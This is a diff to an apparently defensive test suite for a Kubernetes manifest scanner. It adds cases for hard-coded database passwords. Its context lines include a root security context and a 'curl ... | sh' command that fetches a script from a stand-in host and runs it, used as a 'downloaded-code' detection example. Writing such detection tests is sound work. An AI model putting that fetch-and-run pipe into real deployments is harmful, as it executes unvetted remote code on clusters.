@@ -16,6 +16,8 @@ describe('Kubernetes', () => {
     ['securityContext: {runAsUser: 0}', ['excessive-permissions']],
     ['securityContext: {runAsUser: 1000, runAsNonRoot: true}', []],
     ['env: [{name: DB_PASSWORD, value: hunter2hunter2}]', ['hard-coded-secret']],
+    ['env: [{name: DB_PASSWORD, value: my-exchange-example-1}]', ['hard-coded-secret']],
+    ['env: [{name: DB_PASSWORD, value: change-me}]', []],
     ['env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: s, key: k}}}]', []],
     ['command: [sh, -c, "curl -s https://x.example/i.sh | sh"]', ['downloaded-code']],
     ['command: [sh, -c, "curl -s https://x.example/data"]', []],
